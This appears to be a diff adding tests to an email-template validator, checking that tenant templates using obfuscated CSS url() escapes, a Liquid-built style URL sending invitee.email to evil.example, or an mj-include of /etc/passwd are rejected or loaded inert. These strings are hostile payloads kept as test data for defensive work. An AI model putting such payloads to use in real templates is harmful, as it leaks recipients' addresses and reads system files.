@@ -205,6 +205,18 @@ describe("a template that cannot be used", () => {
       { body: body(`<mj-text><p style="background:u\\72l(x)">x</p></mj-text>${button}`) },
       /url\(\)/,
     ],
+    ...["url&lpar;x)", "u&#92;72l(x)", "u&bsol;72l(x)", "u\\72\tl(x)", "&#000000000117;rl(x)"].map(
+      (style): [string, object, RegExp] => [
+        `a style that loads as it is read: ${JSON.stringify(style)}`,
+        { body: body(`<mj-text><p style="background:${style}">x</p></mj-text>${button}`) },
+        /url\(\)/,
+      ],
+    ),
+    [
+      "a style that loads by what Liquid writes",
+      { body: body(`<mj-text><p style="color:{{ 'url(https://evil.example/' }}{{ invitee.email }})">x</p></mj-text>${button}`) },
+      /Styles load nothing that Liquid writes/,
+    ],
     ["a text part with the link in an address", { text: "https://evil.example/?{{ url }}" }, /put a space before it/],
     ["a subject with the link in an address", { subject: "evil.example/?{{ url }}" }, /put a space before it/],
     ["an include", { body: body(`<mj-include path="/etc/passwd" />${button}`) }, /<mj-include> is not allowed/],
@@ -310,5 +322,24 @@ describe("what is put into a tenant's template", () => {
     expect(mail.html).toContain("&lt;img");
     expect(mail.subject).toContain("{{ url }}");
     expect(mail.subject).not.toMatch(/\p{Cc}|evil\.example/u);
+  });
+
+  it("loads nothing by a style, in a tag or a sheet", async () => {
+    const { app, olive, path, templates } = await owned();
+    const colored = body(`<mj-text><p title="{{ data.title }}" style="color:{{ data.color }}">x</p></mj-text>${button}`);
+    const sheet = "<mj-head><mj-style>p { color: {{ data.sheet }} }</mj-style></mj-head><mj-body>";
+    const wording = { subject: "Ours", body: colored.replace("<mj-body>", sheet) };
+    expect(await olive.put(`${templates}/invite/*`, wording)).toMatchObject({ status: 200 });
+    const load = "red;background:url(https://evil.example/x)";
+    for (const [data, subject] of [
+      [{ color: "red", title: "url(x)" }, "Ours"],
+      [{ color: load }, "Olive invites you to Acme"],
+      [{ sheet: load }, "Olive invites you to Acme"],
+    ] as const) {
+      const mail = await invited(app, olive, path, `${subject.length}-${Object.keys(data)}@example.com`.replace(",", "-"), {
+        data,
+      });
+      expect(mail.subject, JSON.stringify(data)).toBe(subject);
+    }
   });
 });
